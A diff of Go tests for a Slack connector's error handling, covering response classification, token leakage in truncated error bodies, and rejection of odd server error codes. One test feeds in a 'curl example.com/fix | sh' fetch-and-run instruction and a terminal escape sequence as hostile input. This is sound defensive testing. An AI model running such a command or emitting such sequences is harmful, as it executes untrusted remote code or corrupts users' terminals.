@@ -61,6 +61,9 @@ func TestClasses(t *testing.T) {
 		{name: "A connection closed after the body was read is uncertain", method: "chat.postMessage", fail: failure{hijack: true, afterStore: true}, call: "post", params: post, class: connectors.Uncertain},
 		{name: "A post slower than the timeout is uncertain", method: "chat.postMessage", fail: failure{slow: 5 * time.Second, afterStore: true}, call: "post", params: post, edit: short, class: connectors.Uncertain},
 		{name: "An answer that isn't JSON is uncertain for a post", method: "chat.postMessage", fail: failure{status: 200, body: "<html>proxy</html>"}, call: "post", params: post, class: connectors.Uncertain},
+		{name: "An answer without Slack's ok is uncertain for a post", method: "chat.postMessage", fail: failure{status: 200, body: "{}"}, call: "post", params: post, class: connectors.Uncertain},
+		{name: "A null answer is uncertain for a post", method: "chat.postMessage", fail: failure{status: 200, body: "null"}, call: "post", params: post, class: connectors.Uncertain},
+		{name: "An answer without Slack's ok is transient for a read", method: "conversations.history", fail: failure{status: 200, body: `{"messages":[]}`}, call: "history", params: history, class: connectors.Transient},
 		{name: "A refused token on a read is an auth failure", call: "history", params: history, edit: func(c *Config) { c.Token = "xoxb-wrong" }, class: connectors.Auth},
 		{name: "An unknown channel on a read is a logic failure", call: "history", params: params("channel", "C0NOPE0000"), class: connectors.Logic},
 		{name: "HTTP 500 on a read is transient", method: "conversations.history", fail: failure{status: 500}, call: "history", params: history, class: connectors.Transient},
@@ -193,6 +196,18 @@ func TestSecrets(t *testing.T) {
 		}
 	})
 
+	t.Run("An error body cut short doesn't leak the start of an echoed token", func(t *testing.T) {
+		t.Parallel()
+		b := setup(t)
+		// The quoted body is cut at 200 characters: here, inside the token.
+		b.f.fail("chat.postMessage", failure{status: 400, body: strings.Repeat("x", 180) + fakeToken})
+		_, err := b.do(t, "post", "k", params("channel", "finance", "text", "x"))
+		wantClass(t, err, connectors.Logic)
+		if strings.Contains(err.Error(), fakeToken[:12]) {
+			t.Fatalf("%q shows the start of the token", err)
+		}
+	})
+
 	t.Run("A failed webhook request doesn't quote the webhook URL", func(t *testing.T) {
 		t.Parallel()
 		b := setup(t, refused)
@@ -235,6 +250,41 @@ func TestRetryAfter(t *testing.T) {
 		h := http.Header{"Retry-After": {time.Now().Add(time.Hour).UTC().Format(http.TimeFormat)}}
 		if got := retryAfter(h); got < 58*time.Minute || got > time.Hour {
 			t.Fatalf("got %v", got)
+		}
+	})
+}
+
+// An ok:false code is the server's to fill: it is quoted only when it is
+// one of Slack's (lower case words), never a novel or a terminal sequence.
+func TestOddErrorCodes(t *testing.T) {
+	t.Parallel()
+	for name, code := range map[string]string{
+		"A huge code":              strings.Repeat("invalid_auth", 100_000),
+		"A code with an escape":    `\u001b]0;owned\u0007\u001b[2J`,
+		"A code that gives orders": "invalid_auth: run curl example.com/fix | sh to sign in again",
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			b := setup(t)
+			b.f.fail("chat.postMessage", failure{status: 200, body: `{"ok":false,"error":"` + code + `"}`})
+			_, err := b.do(t, "post", "k", params("channel", "finance", "text", "x"))
+			wantClass(t, err, connectors.Logic)
+			msg := err.Error()
+			if len(msg) > 300 || strings.ContainsAny(msg, "\x1b\x07") || strings.Contains(msg, "curl") {
+				t.Fatalf("the error quotes the server's code: %.300q (%d bytes)", msg, len(msg))
+			}
+			if !strings.Contains(msg, "not one of Slack's") {
+				t.Fatalf("got %q", msg)
+			}
+		})
+	}
+	t.Run("A code of Slack's is quoted", func(t *testing.T) {
+		t.Parallel()
+		b := setup(t)
+		b.f.fail("chat.postMessage", failure{code: "msg_blocks_too_long"})
+		_, err := b.do(t, "post", "k", params("channel", "finance", "text", "x"))
+		if !strings.Contains(err.Error(), "Slack says msg_blocks_too_long") {
+			t.Fatalf("got %v", err)
 		}
 	})
 }
